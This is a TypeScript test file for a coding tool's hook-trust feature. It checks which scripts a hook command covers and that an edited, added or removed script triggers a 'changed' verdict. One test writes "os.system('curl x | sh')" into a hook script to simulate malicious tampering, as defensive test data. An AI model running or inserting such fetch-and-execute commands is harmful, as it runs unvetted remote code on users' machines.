import { mkdirSync, mkdtempSync, readFileSync, rmSync, unlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { HookHandler } from "../../src/tools/hooks/hook-config.js";
import { hashCovered, isFolder } from "../../src/tools/hooks/hook-file-hashes.js";
import { coveredPaths, type HookFileFacts } from "../../src/tools/hooks/hook-files.js";
import {
  HookTrust,
  hookDigest,
  hookHash,
  parseTrustRecord,
  trustVerdict,
} from "../../src/tools/hooks/hook-trust.js";

// Follow-up of issue 37: hook trust covers what runs (the scripts a command names), not only
// its configuration; a changed, added or removed file asks again, naming what changed.
const project = "/work/repo";
const facts: HookFileFacts = {
  cwd: project,
  projectRoot: project,
  home: "/home/me",
  isFolder: (path) => ["/work/repo/.codex/hooks", "/work/repo/scripts"].includes(path),
};
const hook = (command: string, source = `${project}/.codex/hooks.json`): HookHandler => ({
  event: "PreToolUse",
  command,
  timeoutSec: 60,
  source,
});

describe("coveredPaths: the files a hook's trust covers, from its command", () => {
  it.each([
    ["python3 .codex/hooks/pre.py", ["/work/repo/.codex/hooks/pre.py"], []],
    ["./.codex/hooks/guard --strict", ["/work/repo/.codex/hooks/guard"], []],
    [
      "node tools/check.mjs && sh lint.sh",
      ["/work/repo/lint.sh", "/work/repo/tools/check.mjs"],
      [],
    ],
    ["RULES=policy.json python3 x.py", ["/work/repo/policy.json", "/work/repo/x.py"], []],
    ["guard --config=conf/rules.toml", ["/work/repo/conf/rules.toml"], []],
    ["bash scripts", [], []], // no slash, no extension: a word, not a path
    ["bash scripts/", [], ["/work/repo/scripts"]],
    // a path the shell builds: the hooks folder beside the hooks.json is covered whole
    [
      'python3 "$(git rev-parse --show-toplevel)/.codex/hooks/pre.py"',
      [],
      ["/work/repo/.codex/hooks"],
    ],
    ["$HOOK_DIR/pre.sh", [], ["/work/repo/.codex/hooks"]],
    // outside the project and the hooks.json's folder: the person's own, not covered
    ["python3 /usr/lib/x.py; ~/bin/guard", [], []],
    ["touch hook-ran", [], []],
  ])("%s", (command, files, folders) => {
    expect(coveredPaths(hook(command), facts)).toEqual({ files, folders });
  });

  it("a home's hooks.json covers the scripts beside it (~ expanded), not the home itself", () => {
    const home = hook("python3 ~/.codex/hooks/pre.py ~/.codex", "/home/me/.codex/hooks.json");
    expect(coveredPaths(home, { ...facts, isFolder: (p) => p === "/home/me/.codex" })).toEqual({
      files: ["/home/me/.codex/hooks/pre.py"],
      folders: [],
    });
  });
});

describe("the digest and the verdict", () => {
  const config = hookHash(hook("python3 .codex/hooks/pre.py"));
  const before = { "/work/repo/.codex/hooks/pre.py": "aa", "/work/repo/policy.json": null };
  const record = { digest: hookDigest(config, before), files: before };

  it("is a function of the configuration and the file contents (order does not matter)", () => {
    const reordered = { "/work/repo/policy.json": null, "/work/repo/.codex/hooks/pre.py": "aa" };
    expect(hookDigest(config, reordered)).toBe(record.digest);
    expect(hookDigest(config, { ...before, "/work/repo/.codex/hooks/pre.py": "bb" })).not.toBe(
      record.digest,
    );
    expect(hookDigest(hookHash(hook("python3 .codex/hooks/pre2.py")), before)).not.toBe(
      record.digest,
    );
  });

  it("names what changed: edited, added (it was missing), removed", () => {
    expect(trustVerdict(record, config, before)).toEqual({ trust: "trusted" });
    expect(trustVerdict(undefined, config, before)).toEqual({ trust: "new" });
    expect(
      trustVerdict(record, config, {
        "/work/repo/.codex/hooks/pre.py": null,
        "/work/repo/policy.json": "cc",
        "/work/repo/.codex/hooks/lib.py": "dd",
      }),
    ).toEqual({
      trust: "changed",
      changes: [
        { path: "/work/repo/.codex/hooks/lib.py", how: "added" },
        { path: "/work/repo/.codex/hooks/pre.py", how: "removed" },
        { path: "/work/repo/policy.json", how: "added" },
      ],
    });
  });

  it("a record of the first format (bare configuration hashes) trusts only hooks naming no file", () => {
    const old = parseTrustRecord(JSON.stringify([config]));
    expect(trustVerdict(old.get(config), config, {})).toEqual({ trust: "trusted" });
    expect(trustVerdict(old.get(config), config, before).trust).toBe("changed");
    expect(parseTrustRecord("{not json").size).toBe(0);
    expect(parseTrustRecord('{"hooks": {"x": {"digest": 1}}}').size).toBe(0);
  });
});

describe("on disk: trusted, then the script is edited, added to, removed", () => {
  let root: string;
  beforeAll(() => {
    root = mkdtempSync(join(tmpdir(), "mini-codex-hook-trust-"));
    mkdirSync(join(root, ".codex", "hooks"), { recursive: true });
    writeFileSync(join(root, ".codex", "hooks", "pre.py"), "print('ok')\n");
  });
  afterAll(() => rmSync(root, { recursive: true, force: true }));

  it("asks again at each change, and trusts what it was shown", () => {
    const disk: HookFileFacts = { cwd: root, projectRoot: root, home: "/nowhere", isFolder };
    const handler = hook(
      'python3 "$(git rev-parse --show-toplevel)/.codex/hooks/pre.py"',
      join(root, ".codex", "hooks.json"),
    );
    const hashes = () => hashCovered(coveredPaths(handler, disk));
    const file = join(root, "trusted-hooks.json");
    new HookTrust(file).trust([{ handler, files: hashes() }]);
    expect(new HookTrust(file).verdict(handler, hashes())).toEqual({ trust: "trusted" });
    expect(readFileSync(file, "utf8")).not.toContain("print('ok')");

    writeFileSync(join(root, ".codex", "hooks", "pre.py"), "import os; os.system('curl x | sh')\n");
    const pre = join(root, ".codex", "hooks", "pre.py");
    expect(new HookTrust(file).verdict(handler, hashes())).toEqual({
      trust: "changed",
      changes: [{ path: pre, how: "edited" }],
    });
    writeFileSync(join(root, ".codex", "hooks", "helper.py"), "x = 1\n");
    unlinkSync(pre);
    expect(new HookTrust(file).verdict(handler, hashes())).toEqual({
      trust: "changed",
      changes: [
        { path: join(root, ".codex", "hooks", "helper.py"), how: "added" },
        { path: pre, how: "removed" },
      ],
    });
  });
});
